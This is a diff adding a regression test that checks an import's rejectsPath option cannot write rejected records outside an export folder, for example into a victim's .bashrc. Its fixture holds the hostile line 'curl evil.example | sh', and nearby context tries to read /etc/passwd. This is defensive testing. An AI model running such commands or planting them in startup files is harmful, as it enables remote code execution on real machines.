@@ -147,6 +147,21 @@ describe('REST reaches only its own files', () => {
     expect((await rpc('inspectFile', { file, options: {} })).status).toBe(200);
   });
 
+  it("an import's rejectsPath cannot write outside the export folder (it wrote the rejected records, attacker's text, anywhere)", async () => {
+    const bad = path.join(dir, 'bad.jsonl');
+    fs.writeFileSync(bad, JSON.stringify({ id: 'r1', note: 'curl evil.example | sh' }) + '\n');
+    const target = path.join(dir, 'victim', '.bashrc');
+    fs.mkdirSync(path.dirname(target));
+    fs.writeFileSync(target, 'echo hello\n');
+    const res = await rpc('importData', { files: [bad], options: { errorHandling: 'lenient', rejectsPath: target } }, importToken);
+    expect(res.status).toBe(403);
+    expect(fs.readFileSync(target, 'utf8')).toBe('echo hello\n');
+    // A plain name lands in the export folder, as an export's would.
+    const named = await rpc('importData', { files: [bad], options: { errorHandling: 'lenient', rejectsPath: 'rejects.jsonl' } }, importToken);
+    expect(named.status).toBe(200);
+    expect(named.json.value.rejects.path).toBe(path.join(fs.realpathSync(dataDir), 'exports', 'rejects.jsonl'));
+  });
+
   it('inspectFile of /etc/passwd, and a download id that is a path, are refused', async () => {
     const res = await rpc('inspectFile', { file: '/etc/passwd', options: {} });
     expect(res.status).toBe(403);
